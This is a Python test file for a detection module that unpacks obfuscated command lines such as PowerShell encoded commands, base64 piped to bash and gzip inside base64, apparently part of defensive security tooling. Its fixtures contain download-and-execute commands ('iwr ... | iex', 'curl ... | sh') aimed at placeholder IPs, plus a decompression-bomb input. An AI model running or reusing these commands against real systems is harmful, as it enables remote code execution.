import base64
import gzip

from hypothesis import given
from hypothesis import strategies as st

from shared.core.detections.decode import MAX_LEVELS, MAX_TEXT, decoded


def _wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_powershells_encoded_command_is_read_whatever_prefix_is_used() -> None:
    inner = "iwr http://203.0.113.10/a.ps1 | iex"
    for switch in ("-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-ENCO"):
        layers = decoded(f"powershell.exe -nop {switch} {_wide(inner)}")
        assert [layer.text for layer in layers] == [inner]


def test_execution_policy_is_no_encoded_command() -> None:
    assert decoded("powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1") == ()
    assert decoded("powershell.exe -ep UmVtb3RlU2lnbmVk") == ()


def test_nested_layers_come_outermost_first() -> None:
    inner = "Start-Process calc"
    middle = f"powershell -enc {_wide(inner)}"
    assert [layer.text for layer in decoded(f"powershell -enc {_wide(middle)}")] == [middle, inner]


def test_gzip_inside_base64_is_unpacked() -> None:
    packed = base64.b64encode(gzip.compress(b"whoami /all")).decode()
    assert [layer.text for layer in decoded(f"$x=[Convert]::FromBase64String('{packed}')")] == ["whoami /all"]


def test_a_shells_base64_pipe_is_read() -> None:
    encoded = base64.b64encode(b"curl http://203.0.113.9/x | sh").decode()
    assert decoded(f'bash -c "echo {encoded} | base64 -d | bash"')[0].text == "curl http://203.0.113.9/x | sh"


def test_a_bomb_stays_small_and_nesting_ends() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * 50_000_000)).decode()
    assert len(decoded(f"FromBase64String('{bomb}')")[0].text) <= MAX_TEXT
    text = "x"
    for _ in range(MAX_LEVELS + 3):
        text = f"powershell -enc {_wide(text)}"
    assert len(decoded(text)) == MAX_LEVELS


def test_words_that_merely_look_like_base64_are_left_alone() -> None:
    assert decoded("tool.exe -e ABCDEFGHIJKLMNOP") == ()
    assert decoded(None) == ()


@given(st.text())
def test_no_text_raises(text: str) -> None:
    decoded(text)
    decoded(f"powershell -enc {text}")
